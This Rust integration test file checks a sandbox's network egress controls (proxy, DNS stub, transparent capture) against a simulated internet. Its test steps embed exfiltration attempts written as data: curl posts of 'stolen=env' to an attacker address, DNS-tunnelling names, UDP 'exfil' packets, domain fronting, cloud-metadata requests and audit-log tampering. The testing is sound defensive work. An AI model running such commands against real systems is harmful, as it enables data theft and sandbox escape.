//! Egress control end to end: the real binary, its proxy, DNS stub and transparent capture,
//! against a fake internet in a network namespace of the test's own (see common/inet.rs).
//! Every case asserts what arrived (or did not) at the servers, and the audit events.

mod common;

use common::inet::{Internet, audit_events, egress_users, find, needs_root};
use common::*;

const PROFILE: &str = "\
name: egress-test
description: the allowlist the egress tests run under
extends: default
network:
  allow:
    - { host: allowed.test, ports: [80, 443] }
    - \"*.wild.test:443\"
    - meta.test:443
    - loop.test:443
";

#[test]
fn allowed_host_through_connect_and_transparent_capture() {
    if !needs_root() {
        return;
    }
    for uid in egress_users() {
        let net = Internet::new();
        let dir = Dir::new(uid);
        let out = net.run(
            &dir,
            PROFILE,
            &[],
            "curl -sSk https://allowed.test/ && curl -sSk --noproxy '*' https://allowed.test/t && \
             curl -sS http://allowed.test/p && curl -sS --noproxy '*' http://allowed.test/q",
        );
        assert_eq!(
            out.ok(),
            "hello from allowed.test over https\nhello from allowed.test over https\n\
             hello from allowed.test over http\nhello from allowed.test over http\n",
            "as uid {uid}: {}",
            out.stderr()
        );
        assert_eq!(
            net.log("web.log"),
            "https allowed.test /\nhttps allowed.test /t\nhttp allowed.test /p\nhttp allowed.test /q\n"
        );
        let ev = audit_events(&dir);
        let allow = [("decision", "allow"), ("dest_name", "allowed.test")];
        let connect = [
            allow.as_slice(),
            &[
                ("via", "proxy"),
                ("name_source", "connect"),
                ("dest_port", "443"),
            ],
        ]
        .concat();
        assert_eq!(find(&ev, "connect", &connect).len(), 1, "{ev:#?}");
        assert_eq!(
            find(&ev, "connect", &connect)[0]["rule"],
            "allowed.test:80,443"
        );
        assert_eq!(find(&ev, "connect", &connect)[0]["dest_ip"], "192.0.2.10");
        let sni = [
            allow.as_slice(),
            &[("via", "transparent"), ("name_source", "sni")],
        ]
        .concat();
        assert_eq!(find(&ev, "connect", &sni).len(), 1, "{ev:#?}");
        let host = [
            allow.as_slice(),
            &[
                ("via", "transparent"),
                ("name_source", "host"),
                ("dest_port", "80"),
            ],
        ]
        .concat();
        assert_eq!(find(&ev, "connect", &host).len(), 1, "{ev:#?}");
        let http = find(
            &ev,
            "http",
            &[
                ("method", "GET"),
                ("url", "http://allowed.test/p"),
                ("status", "200"),
            ],
        );
        assert_eq!(http.len(), 1, "{ev:#?}");
        // Plain HTTP through the proxy is counted on close, both ways.
        let conn = http[0]["conn"].to_string();
        let close = find(&ev, "close", &[("conn", conn.as_str())]);
        assert!(close[0]["bytes_up"].as_u64().unwrap() > 40, "{close:?}");
        assert!(close[0]["bytes_down"].as_u64().unwrap() > 40, "{close:?}");
        // Captured plain HTTP is logged with method and URL too.
        let captured = find(
            &ev,
            "http",
            &[("method", "GET"), ("url", "http://allowed.test/q")],
        );
        assert_eq!(captured.len(), 1, "{ev:#?}");
        // The transparent connection was preceded by the stub answering the name.
        let dns = find(
            &ev,
            "dns",
            &[
                ("name", "allowed.test"),
                ("qtype", "A"),
                ("decision", "allow"),
            ],
        );
        assert!(
            !dns.is_empty() && dns[0]["answers"][0] == "192.0.2.10",
            "{ev:#?}"
        );
        // Bytes are counted on close.
        assert!(
            find(&ev, "close", &[])
                .iter()
                .any(|c| c["bytes_down"].as_u64().unwrap() > 0)
        );
        assert_eq!(find(&ev, "step_end", &[("exit_code", "0")]).len(), 1);
    }
}

#[test]
fn denied_host_bare_ip_and_port_reach_nothing() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let out = net.run(
        &dir,
        PROFILE,
        &[],
        "curl -sk -o /dev/null -w '%{http_connect}\\n' https://other.test/; \
         curl -s --noproxy '*' -d stolen=env http://198.51.100.7/upload -o /dev/null -w '%{http_code}\\n'; \
         curl -s -d stolen=env http://198.51.100.7/upload -o /dev/null -w '%{http_code}\\n'; \
         curl -sk -o /dev/null -w '%{http_connect}\\n' https://allowed.test:8443/; \
         curl -sk --noproxy '*' https://198.51.100.7/dns-query -o /dev/null; echo doh=$?",
    );
    assert_eq!(
        out.stdout(),
        "403\n403\n403\n403\ndoh=35\n",
        "{}",
        out.stderr()
    );
    assert_eq!(
        net.log("attacker.log"),
        "",
        "the attacker received something"
    );
    assert_eq!(net.log("web.log"), "");
    let err = out.stderr();
    assert!(
        err.contains(
            "stepjail: denied other.test:443 (not allowed by profile; profile 'egress-test')"
        ),
        "{err}"
    );
    assert!(
        err.contains("stepjail: denied 198.51.100.7:80 (not allowed by profile"),
        "{err}"
    );
    assert!(err.contains("stepjail: denied allowed.test:8443 (port 8443 not allowed for allowed.test (allowed: 80, 443)"), "{err}");
    let ev = audit_events(&dir);
    assert_eq!(
        find(
            &ev,
            "connect",
            &[
                ("dest_name", "other.test"),
                ("decision", "deny"),
                ("name_source", "connect")
            ]
        )
        .len(),
        1
    );
    let ip = find(
        &ev,
        "connect",
        &[
            ("dest_ip", "198.51.100.7"),
            ("dest_port", "80"),
            ("decision", "deny"),
        ],
    );
    assert_eq!(ip.len(), 2, "{ev:#?}");
    assert_eq!(
        find(
            &ev,
            "http",
            &[
                ("method", "POST"),
                ("url", "http://198.51.100.7/upload"),
                ("status", "403")
            ]
        )
        .len(),
        2,
        "the proxied and the captured request: {ev:#?}"
    );
    let doh = find(
        &ev,
        "connect",
        &[
            ("dest_ip", "198.51.100.7"),
            ("dest_port", "443"),
            ("decision", "deny"),
        ],
    );
    assert!(
        doh[0]["reason"]
            .as_str()
            .unwrap()
            .contains("without a server name"),
        "{doh:?}"
    );
}

#[test]
fn dns_answers_only_allowed_names_and_never_asks_upstream_for_others() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let code = r#"
import socket
for name in ('allowed.test', 'c2VjcmV0.exfil.denied.test', 'meta.test', 'alias.test'):
    try:
        print(name, sorted({a[4][0] for a in socket.getaddrinfo(name, 443, socket.AF_INET)}))
    except socket.gaierror as e:
        print(name, 'gaierror', e.errno)
"#;
    std::fs::write(dir.ws.join("q.py"), code).unwrap();
    let out = net.run(&dir, PROFILE, &[], &format!("{PYTHON} q.py"));
    assert_eq!(
        out.ok(),
        "allowed.test ['192.0.2.10']\nc2VjcmV0.exfil.denied.test gaierror -2\nmeta.test gaierror -5\nalias.test gaierror -2\n",
        "{}",
        out.stderr()
    );
    let upstream = net.log("dns.log");
    assert!(upstream.contains("allowed.test 1"), "{upstream}");
    assert!(
        !upstream.contains("denied.test") && !upstream.contains("alias.test"),
        "the upstream saw: {upstream}"
    );
    let ev = audit_events(&dir);
    let denied = find(
        &ev,
        "dns",
        &[
            ("name", "c2vjcmv0.exfil.denied.test"),
            ("decision", "deny"),
            ("rcode", "NXDOMAIN"),
        ],
    );
    assert!(!denied.is_empty(), "{ev:#?}");
    let meta = find(
        &ev,
        "dns",
        &[("name", "meta.test"), ("qtype", "A"), ("decision", "allow")],
    );
    assert_eq!(
        meta[0]["answers"],
        serde_json::json!([]),
        "169.254.169.254 must not be handed out"
    );
}

#[test]
fn dns_over_tcp_and_udp_to_outside_resolvers() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let code = r#"
import socket, struct
q = struct.pack('!HHHHHH', 7, 0x0100, 1, 0, 0, 0) + b'\x07allowed\x04test\x00' + struct.pack('!HH', 1, 1)
# DNS over TCP straight to an outside resolver address: captured and refused.
s = socket.create_connection(('198.51.100.7', 53), timeout=5)
s.sendall(struct.pack('!H', len(q)) + q)
try:
    print('tcp', len(s.recv(512)))
except OSError as e:
    print('tcp error', e.errno)
# DNS over UDP to any address: answered by the stub, never forwarded there.
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
u.sendto(q, ('198.51.100.7', 53))
r = u.recv(512)
print('udp', r[3] & 0x0f, socket.inet_ntoa(r[-4:]))
# Other UDP never leaves.
u.sendto(b'exfil', ('198.51.100.7', 9999))
print('sent')
# The same over IPv6: DNS answered by the stub (on [::1]:53), other UDP logged and dropped.
u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u6.settimeout(5)
u6.sendto(q, ('2001:db8::53', 53))
r, src = u6.recvfrom(512)
print('udp6', r[3] & 0x0f, socket.inet_ntoa(r[-4:]), src[0])
u6.sendto(b'exfil', ('2001:db8::53', 123))
print('sent6')
"#;
    std::fs::write(dir.ws.join("d.py"), code).unwrap();
    let out = net.run(&dir, PROFILE, &[], &format!("{PYTHON} d.py; sleep 0.3"));
    assert_eq!(
        out.ok(),
        "tcp 0\nudp 0 192.0.2.10\nsent\nudp6 0 192.0.2.10 2001:db8::53\nsent6\n",
        "{}",
        out.stderr()
    );
    assert_eq!(net.log("attacker.log"), "");
    let ev = audit_events(&dir);
    assert_eq!(
        find(
            &ev,
            "connect",
            &[
                ("dest_ip", "198.51.100.7"),
                ("dest_port", "53"),
                ("protocol", "tcp"),
                ("decision", "deny")
            ]
        )
        .len(),
        1
    );
    assert_eq!(
        find(
            &ev,
            "connect",
            &[
                ("dest_ip", "198.51.100.7"),
                ("dest_port", "9999"),
                ("protocol", "udp"),
                ("decision", "deny")
            ]
        )
        .len(),
        1
    );
    assert_eq!(
        find(
            &ev,
            "connect",
            &[
                ("dest_ip", "2001:db8::53"),
                ("dest_port", "123"),
                ("protocol", "udp"),
                ("via", "transparent"),
                ("decision", "deny")
            ]
        )
        .len(),
        1,
        "{ev:#?}"
    );
    assert!(
        !find(
            &ev,
            "dns",
            &[
                ("name", "allowed.test"),
                ("transport", "udp"),
                ("decision", "allow")
            ]
        )
        .is_empty()
    );
}

#[test]
fn domain_fronting_and_host_mismatch_are_refused() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let out = net.run(
        &dir,
        PROFILE,
        &[],
        // CONNECT allowed.test:443, then a ClientHello for other.test inside the tunnel.
        "curl -sk --connect-to other.test:443:allowed.test:443 https://other.test/ -o /dev/null; echo sni=$?; \
         curl -s -H 'Host: other.test' http://allowed.test/ -o /dev/null -w '%{http_code}\\n'",
    );
    assert_eq!(out.stdout(), "sni=35\n403\n", "{}", out.stderr());
    assert_eq!(net.log("web.log"), "", "a fronted request reached a server");
    let ev = audit_events(&dir);
    let sni = find(
        &ev,
        "connect",
        &[("name_source", "sni"), ("decision", "deny")],
    );
    assert!(
        sni[0]["reason"]
            .as_str()
            .unwrap()
            .contains("does not match the CONNECT host allowed.test"),
        "{ev:#?}"
    );
    let host = find(
        &ev,
        "connect",
        &[
            ("dest_name", "allowed.test"),
            ("name_source", "host"),
            ("decision", "deny"),
        ],
    );
    assert!(
        host[0]["reason"]
            .as_str()
            .unwrap()
            .contains("Host header does not match"),
        "{ev:#?}"
    );
}

#[test]
fn allowed_names_resolving_to_special_addresses_are_refused() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let out = net.run(
        &dir,
        PROFILE,
        &[],
        "curl -sk -o /dev/null -w '%{http_connect}\\n' https://meta.test/; \
         curl -sk -o /dev/null -w '%{http_connect}\\n' https://loop.test/; \
         curl -sk -o /dev/null -w '%{http_connect}\\n' https://nx.wild.test/",
    );
    // A refused address is a denial like any other (403); an allowed name that cannot be
    // reached (it does not resolve) is the upstream's failure (502).
    assert_eq!(out.stdout(), "403\n403\n502\n", "{}", out.stderr());
    let ev = audit_events(&dir);
    let meta = find(
        &ev,
        "connect",
        &[("dest_name", "meta.test"), ("decision", "deny")],
    );
    assert!(
        meta[0]["reason"]
            .as_str()
            .unwrap()
            .contains("169.254.169.254 (link-local)"),
        "{ev:#?}"
    );
    let lo = find(
        &ev,
        "connect",
        &[("dest_name", "loop.test"), ("decision", "deny")],
    );
    assert!(
        lo[0]["reason"]
            .as_str()
            .unwrap()
            .contains("127.0.0.1 (loopback)"),
        "{ev:#?}"
    );
}

#[test]
fn ipv6_is_handled_like_ipv4() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let out = net.run(
        &dir,
        PROFILE,
        &[],
        "curl -sSk -6 --noproxy '*' https://allowed.test/six; \
         curl -s -g --noproxy '*' 'http://[2001:db8::10]/bare' -o /dev/null -w '%{http_code}\\n'",
    );
    assert_eq!(
        out.stdout(),
        "hello from allowed.test over https\n403\n",
        "{}",
        out.stderr()
    );
    assert_eq!(net.log("web.log"), "https allowed.test /six\n");
    let ev = audit_events(&dir);
    assert!(
        !find(
            &ev,
            "dns",
            &[
                ("name", "allowed.test"),
                ("qtype", "AAAA"),
                ("decision", "allow")
            ]
        )
        .is_empty()
    );
    assert_eq!(
        find(
            &ev,
            "connect",
            &[
                ("dest_ip", "2001:db8::10"),
                ("dest_port", "80"),
                ("decision", "deny")
            ]
        )
        .len(),
        1
    );
}

/// With kernel capture the step's namespace has no network device but `lo`, which carries the
/// step's own addresses, and the default routes are `local` routes on it (no device to
/// register at the start or unregister at the end). In the fallback (STEPJAIL_NO_NFTABLES=1)
/// `sj0` carries its one address and no generated link-local one (generating it made bringing
/// the device up cost milliseconds), and the setting that says so is the step's namespace's
/// own: the host's default is what it was.
#[test]
fn kernel_capture_needs_no_device_and_sj0_has_only_its_own_address() {
    if !needs_root() {
        return;
    }
    const HOST: &str = "/proc/sys/net/ipv6/conf/default/addr_gen_mode";
    let before = std::fs::read_to_string(HOST).unwrap();
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let out = net.run(
        &dir,
        PROFILE,
        &[],
        "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; grep -v '^00000000000000000000000000000001' /proc/net/if_inet6 | cut -c1-32,45-; grep -c sj0 /proc/net/route",
    );
    assert_eq!(
        out.stdout(),
        "lo\nfd00005a000000000000000000000001       lo\n0\n",
        "{}",
        out.stderr()
    );
    let out = net.run_env(
        &dir,
        PROFILE,
        &[],
        "grep sj0 /proc/net/if_inet6 | cut -c1-32",
        &[("STEPJAIL_NO_NFTABLES", std::path::Path::new("1"))],
    );
    assert_eq!(
        out.stdout(),
        "fd00005a000000000000000000000001\n",
        "{}",
        out.stderr()
    );
    assert_eq!(std::fs::read_to_string(HOST).unwrap(), before);
}

/// Connections to loopback inside the step (the explicit proxy, the stub, the step's own local
/// servers) get no conntrack entry: the NAT chain turns tracking on for the namespace, and on
/// loopback it only costs. Captured connections, whose replies NAT must rewrite, are still
/// tracked and still work, over IPv4 and IPv6. `nf_conntrack_count` is the step namespace's own.
#[test]
fn loopback_traffic_is_not_tracked_and_captured_connections_still_are() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let out = net.run(
        &dir,
        PROFILE,
        &[],
        "c() { cat /proc/sys/net/netfilter/nf_conntrack_count; }; c; \
         curl -sSk -o /dev/null https://allowed.test/ && getent hosts allowed.test >/dev/null && \
         python3 -c 'import socket; [socket.create_connection((\"127.0.0.1\", 3128)).close() for _ in range(5)]' && c; \
         curl -sSk --noproxy '*' -o /dev/null -w '%{http_code} ' https://allowed.test/t && c; \
         curl -sSk -6 --noproxy '*' -o /dev/null -w '%{http_code} ' https://allowed.test/six && c",
    );
    // 0 entries after a CONNECT, a lookup through the stub and five connections to the proxy;
    // then one per captured connection.
    assert_eq!(out.stdout(), "0\n0\n200 1\n200 2\n", "{}", out.stderr());
}

#[test]
fn wildcards_match_subdomains_at_any_depth_but_not_the_apex() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let out = net.run(
        &dir,
        PROFILE,
        &[],
        "for h in a.wild.test b.a.wild.test wild.test; do \
         curl -sk -o /dev/null -w \"$h %{http_connect}\\n\" https://$h/; done",
    );
    assert_eq!(
        out.stdout(),
        "a.wild.test 200\nb.a.wild.test 200\nwild.test 403\n",
        "{}",
        out.stderr()
    );
    let ev = audit_events(&dir);
    assert_eq!(
        find(
            &ev,
            "connect",
            &[("dest_name", "b.a.wild.test"), ("rule", "*.wild.test:443")]
        )
        .len(),
        1
    );
}

#[test]
fn audit_mode_allows_and_logs_would_deny() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let profile =
        "name: aud\ndescription: empty allowlist\nextends: default\nnetwork:\n  allow: []\n";
    let out = net.run(
        &dir,
        profile,
        &["--mode", "audit"],
        "curl -sSk https://other.test/ && curl -sSk --noproxy '*' https://other.test/x",
    );
    assert_eq!(
        out.ok(),
        "hello from other.test over https\nhello from other.test over https\n",
        "{}",
        out.stderr()
    );
    assert!(
        out.stderr()
            .contains("stepjail: would deny other.test:443 (not allowed by profile"),
        "{}",
        out.stderr()
    );
    let ev = audit_events(&dir);
    assert_eq!(
        find(
            &ev,
            "connect",
            &[("dest_name", "other.test"), ("decision", "would_deny")]
        )
        .len(),
        2,
        "{ev:#?}"
    );
    assert!(
        !find(
            &ev,
            "dns",
            &[("name", "other.test"), ("decision", "would_deny")]
        )
        .is_empty()
    );
    assert_eq!(find(&ev, "step_start", &[("mode", "audit")]).len(), 1);
}

#[test]
fn a_stopped_proxy_leaves_the_step_without_network() {
    if !needs_root() {
        return;
    }
    use std::io::{BufRead, BufReader};
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let p = dir.write("ws/profile.yml", PROFILE);
    let mut child = std::process::Command::new("ip")
        .args([
            "netns",
            "exec",
            &net.ns,
            "setpriv",
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            bin(),
        ])
        .args([
            "run",
            "--profile",
            p.to_str().unwrap(),
            "--resolver",
            "192.0.2.53:53",
            "--",
        ])
        .args([
            "sh",
            "-c",
            "echo ready; read x; curl -sk -m 2 https://allowed.test/ ; echo rc=$?",
        ])
        .env("HOME", &dir.home)
        .current_dir(&dir.ws)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    assert_eq!(lines.next().unwrap().unwrap(), "ready");
    // Freeze stepjail (supervisor and proxy); the step keeps running on its own.
    let pid = nix::unistd::Pid::from_raw(child.id() as i32);
    let sj = find_stepjail_child(pid);
    nix::sys::signal::kill(sj, nix::sys::signal::SIGSTOP).unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(b"go\n").unwrap();
    std::thread::sleep(std::time::Duration::from_secs(3));
    assert_eq!(
        net.log("web.log"),
        "",
        "traffic left while the proxy was stopped"
    );
    nix::sys::signal::kill(sj, nix::sys::signal::SIGCONT).unwrap();
    assert_eq!(lines.next().unwrap().unwrap(), "rc=28");
    child.wait().unwrap();
}

/// `ip netns exec` → setpriv (exec) → stepjail: the stepjail process is the child's own pid
/// after the execs, or its first child.
fn find_stepjail_child(pid: nix::unistd::Pid) -> nix::unistd::Pid {
    let exe = std::fs::read_link(format!("/proc/{pid}/exe")).unwrap();
    assert!(exe.ends_with("stepjail"), "{exe:?}");
    pid
}

#[test]
fn audit_logs_summarize_and_suggest_an_allowlist_that_works() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let empty = "name: learn\ndescription: learn what the step needs\nextends: default\nnetwork:\n  allow: []\n";
    let script = "curl -sSk https://allowed.test/ && curl -sS http://other.test/ && curl -sSk https://a.wild.test/";
    let out = net.run(&dir, empty, &["--mode", "audit"], script);
    assert_eq!(out.ok().lines().count(), 3, "{}", out.stderr());
    let log = dir.root.join("audit.jsonl");
    let summary = Sj::new(&dir, &["audit", "summarize", log.to_str().unwrap()])
        .output()
        .ok();
    for host in ["allowed.test:443", "other.test:80", "a.wild.test:443"] {
        assert!(summary.contains(host), "{summary}");
    }
    let suggested = Sj::new(
        &dir,
        &[
            "audit",
            "suggest",
            "--name",
            "learned",
            log.to_str().unwrap(),
        ],
    )
    .output()
    .ok();
    assert!(
        suggested.contains("- allowed.test:443") && suggested.contains("- other.test:80"),
        "{suggested}"
    );
    let p = dir.write("ws/learned.yml", &suggested);
    Sj::new(&dir, &["check", p.to_str().unwrap()]).output().ok();
    // The suggestion, enforced, lets the same step through and still denies anything else.
    std::fs::remove_file(&log).unwrap();
    let out = net.run(
        &dir,
        &suggested,
        &[],
        &format!(
            "{script} && curl -sk -o /dev/null -w '%{{http_connect}}\\n' https://denied.test/; true"
        ),
    );
    assert_eq!(out.code(), 0, "{}", out.stderr());
    assert_eq!(out.stdout().lines().last(), Some("403"), "{}", out.stderr());
    assert!(
        out.stderr()
            .contains("denied denied.test:443 (not allowed by profile; profile 'learned')")
    );
}

#[test]
fn the_step_cannot_edit_an_audit_log_in_its_workspace() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let p = dir.write("ws/profile.yml", PROFILE);
    let log = dir.ws.join("audit.jsonl");
    let mut cmd = std::process::Command::new("ip");
    cmd.args([
        "netns",
        "exec",
        &net.ns,
        "setpriv",
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        bin(),
    ])
    .args([
        "run",
        "--profile",
        p.to_str().unwrap(),
        "--resolver",
        "192.0.2.53:53",
    ])
    .args(["--audit-log", log.to_str().unwrap(), "--"])
    .args([
        "sh",
        "-c",
        "curl -sk https://other.test/ -o /dev/null; (: > audit.jsonl); echo rc=$?",
    ])
    .env("HOME", &dir.home)
    .current_dir(&dir.ws);
    let out = Out(cmd.output().unwrap());
    assert!(
        out.stderr().contains("Read-only file system"),
        "{}",
        out.stderr()
    );
    assert_eq!(out.stdout(), "rc=2\n");
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(
        text.contains("\"dest_name\":\"other.test\"") && text.contains("\"event\":\"step_end\""),
        "{text}"
    );
}

#[test]
fn audit_mode_still_refuses_special_addresses() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    let profile =
        "name: aud\ndescription: empty allowlist\nextends: default\nnetwork:\n  allow: []\n";
    let out = net.run(
        &dir,
        profile,
        &["--mode", "audit"],
        "curl -sk -o /dev/null -w '%{http_connect}\\n' https://meta.test/; \
         curl -s -o /dev/null -w '%{http_code}\\n' http://169.254.169.254/latest/meta-data/; \
         curl -s --noproxy '*' -o /dev/null -w '%{http_code}\\n' http://169.254.169.254/latest/meta-data/; \
         curl -s -o /dev/null -w '%{http_code}\\n' http://127.0.0.1:9/",
    );
    // CONNECT to a name resolving to the metadata address, plain HTTP to it through the proxy
    // and captured: all refused when dialling. (127.0.0.1 is NO_PROXY: the sandbox's own
    // loopback, refused.)
    assert_eq!(out.stdout(), "403\n403\n403\n000\n", "{}", out.stderr());
    let ev = audit_events(&dir);
    let meta = find(
        &ev,
        "connect",
        &[("dest_ip", "169.254.169.254"), ("decision", "deny")],
    );
    // All three, meta.test's with the address it resolved to (what `audit suggest` offers a
    // cidr rule for).
    assert_eq!(meta.len(), 3, "{ev:#?}");
    assert_eq!(find(&ev, "connect", &[("dest_name", "meta.test")]).len(), 1);
    assert!(
        meta.iter()
            .all(|e| e["reason"].as_str().unwrap().contains("link-local")),
        "{meta:?}"
    );
}

#[test]
fn keep_alive_through_the_proxy_reuses_upstream_but_decides_every_request() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    // One client connection to the proxy carries all three requests.
    let out = net.run(
        &dir,
        PROFILE,
        &[],
        "curl -s -w ' %{http_code} %{num_connects}\\n' \
         http://allowed.test/a http://allowed.test/b http://other.test/c",
    );
    assert_eq!(
        out.stdout(),
        "hello from allowed.test over http\n 200 1\nhello from allowed.test over http\n 200 0\n\
         stepjail: not allowed by profile\n 403 0\n",
        "{}",
        out.stderr()
    );
    assert_eq!(
        net.log("web.log"),
        "http allowed.test /a\nhttp allowed.test /b\n"
    );
    let ev = audit_events(&dir);
    let dialled = find(
        &ev,
        "connect",
        &[("dest_name", "allowed.test"), ("decision", "allow")],
    );
    assert_eq!(
        dialled.len(),
        1,
        "one upstream connection for both requests: {ev:#?}"
    );
    let conn = dialled[0]["conn"].to_string();
    assert_eq!(
        find(&ev, "http", &[("conn", conn.as_str()), ("status", "200")]).len(),
        2
    );
    assert_eq!(
        find(
            &ev,
            "http",
            &[("url", "http://other.test/c"), ("status", "403")]
        )
        .len(),
        1
    );
}

/// A tool that ignores the proxy variables keeps one plain-HTTP connection open to an allowed
/// host and sends a second request naming another host (fronting on a shared address): every
/// request on a captured connection is decided, not only the first.
#[test]
fn every_request_on_a_captured_keep_alive_connection_is_decided() {
    if !needs_root() {
        return;
    }
    let net = Internet::new();
    let dir = Dir::new(NOBODY);
    dir.write(
        "ws/ka.py",
        r#"
import socket
s = socket.create_connection(("192.0.2.10", 80), timeout=5)
def req(host, path):
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(4096)
        if not chunk:
            return "closed"
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    n = 0
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        if k.strip().lower() == b"content-length":
            n = int(v)
    while len(body) < n:
        body += s.recv(4096)
    return head.split(b" ")[1].decode()
print(req("allowed.test", "/first"), req("other.test", "/second"), req("allowed.test", "/third"))
"#,
    );
    let out = net.run(&dir, PROFILE, &[], "/usr/bin/python3 ka.py");
    assert_eq!(out.stdout(), "200 403 200\n", "{}", out.stderr());
    assert_eq!(
        net.log("web.log"),
        "http allowed.test /first\nhttp allowed.test /third\n",
        "the second request reached a server"
    );
    let ev = audit_events(&dir);
    let denied = find(
        &ev,
        "connect",
        &[
            ("dest_name", "other.test"),
            ("decision", "deny"),
            ("via", "transparent"),
        ],
    );
    assert_eq!(denied.len(), 1, "{ev:#?}");
    assert_eq!(
        find(
            &ev,
            "http",
            &[("url", "http://other.test/second"), ("status", "403")]
        )
        .len(),
        1,
        "{ev:#?}"
    );
}

/// Captured TCP runs on the kernel's TCP: nf_tables rules in the step's namespace redirect it to
/// the capture listener, whose accepted socket is visible in the namespace's /proc/net/tcp6
/// while the connection is open (the userspace stack has no such socket). A direct connection
/// to that listener (served in both modes) has no original destination: refused and logged. With
/// STEPJAIL_NO_NFTABLES=1 the userspace fallback carries the same request and says what it costs.
#[test]
fn captured_tcp_runs_on_kernel_sockets_with_the_userspace_stack_as_fallback() {
    if !needs_root() {
        return;
    }
    let script = r#"python3 - <<'EOF'
import socket
s = socket.create_connection(("allowed.test", 80))
s.sendall(b"GET /k HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
print(s.recv(4096).split(b"\r\n")[0].decode())
held = [l.split()[1] for f in ("/proc/net/tcp", "/proc/net/tcp6") for l in open(f).readlines()[1:]
        if l.split()[1].endswith(":0C39") and l.split()[3] == "01"]
print("kernel" if held else "userspace")
s.close()
d = socket.create_connection(("10.255.255.1", 3129))
print("direct:", d.recv(10))
EOF"#;
    for uid in egress_users() {
        for fallback in [false, true] {
            let net = Internet::new();
            let dir = Dir::new(uid);
            let env: Vec<(&str, &std::path::Path)> = if fallback {
                vec![("STEPJAIL_NO_NFTABLES", std::path::Path::new("1"))]
            } else {
                vec![]
            };
            let out = net.run_env(&dir, PROFILE, &[], script, &env);
            let path = if fallback { "userspace" } else { "kernel" };
            assert_eq!(
                out.ok(),
                format!("HTTP/1.1 200 OK\n{path}\ndirect: b''\n"),
                "as uid {uid}: {}",
                out.stderr()
            );
            let warned = out.stderr().contains(
                "captured TCP falls back to a userspace TCP stack (STEPJAIL_NO_NFTABLES=1)",
            );
            assert_eq!(warned, fallback, "as uid {uid}: {}", out.stderr());
            assert_eq!(net.log("web.log"), "http allowed.test /k\n");
            let ev = audit_events(&dir);
            let host = [
                ("decision", "allow"),
                ("dest_name", "allowed.test"),
                ("via", "transparent"),
                ("name_source", "host"),
                ("dest_port", "80"),
            ];
            assert_eq!(find(&ev, "connect", &host).len(), 1, "{ev:#?}");
            let direct = find(
                &ev,
                "connect",
                &[("decision", "deny"), ("dest_port", "3129")],
            );
            assert_eq!(direct.len(), 1, "{ev:#?}");
        }
    }
}
